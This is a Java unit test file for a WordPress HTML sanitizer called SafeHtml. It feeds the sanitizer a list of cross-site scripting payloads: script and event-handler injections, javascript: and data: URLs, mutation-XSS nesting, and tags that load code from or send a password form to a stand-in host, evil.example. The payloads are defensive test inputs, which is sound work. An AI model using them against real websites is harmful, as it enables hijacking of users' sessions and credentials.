package io.countersign.plugin.wordpress;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What may be shown stays; what runs does not. */
class SafeHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>Plain</p>",
                "<h2>Sale</h2><p>From <strong>Monday</strong>, <em>all</em> of it.<br /></p>",
                "<ul><li>One</li><li>Two</li></ul><ol><li>First</li></ol>",
                "<blockquote><p>Said <cite>somebody</cite></p></blockquote>",
                "<p><a href=\"https://acme.example/sale?a&#61;1&amp;b&#61;2\">Sale</a></p>",
                "<p><a href=\"mailto:press&#64;acme.example\">Write</a></p>"
            })
    void keepsFormattedTextAsItIs(String html) {
        SafeHtml safe = SafeHtml.of(html);

        assertThat(safe.removed()).isEmpty();
        assertThat(safe.html()).isEqualTo(html);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<p onclick=\"alert(1)\">x</p>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" jAvAsCrIpT&#58;alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<svg onload=alert(1)><circle/></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"x.swf\"></object>",
                "<embed src=\"x\">",
                "<form action=\"https://evil.example\"><input name=password></form>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>"
            })
    void removesWhatRunsAndSaysSo(String html) {
        SafeHtml safe = SafeHtml.of("<p>Before</p>" + html + "<p>After</p>");

        assertThat(safe.removed()).isNotEmpty();
        assertThat(safe.html())
                .contains("Before", "After")
                .doesNotContainPattern("(?i)<(?!/?(p|a|h2)\\b)")
                .doesNotContainPattern("(?i)<[^>]*(\\son\\w+|style|srcdoc|script:|data:)");
        assertThat(SafeHtml.of(safe.html())).isEqualTo(new SafeHtml(safe.html(), List.of()));
    }

    @ParameterizedTest
    @CsvSource({
        "<script>x</script>, <script>",
        "<p onclick='x'>y</p>, onclick of <p>",
        "<a href='javascript:x'>y</a>, <a>",
    })
    void namesWhatItRemoved(String html, String name) {
        assertThat(SafeHtml.of(html).removed()).contains(name);
    }

    @Test
    void leavesNothingForWordPressToRunAsShortcodeOrBlock() {
        String html = SafeHtml.of("<p>[gallery id=\"1\"]</p><!-- wp:html --><p>x</p><!-- /wp:html -->")
                .html();

        assertThat(html).doesNotContain("[", "wp:html").contains("&#91;gallery");
    }

    @Test
    void joinsLinesWhichWordPressWouldBreak() {
        assertThat(SafeHtml.of("<p>one\ntwo</p>\n\n<p>three</p>").html()).isEqualTo("<p>one two</p> <p>three</p>");
    }

    @Test
    void escapesPlainText() {
        assertThat(SafeHtml.escape("<b> & \"x\"")).isEqualTo("&lt;b&gt; &amp; &quot;x&quot;");
    }
}
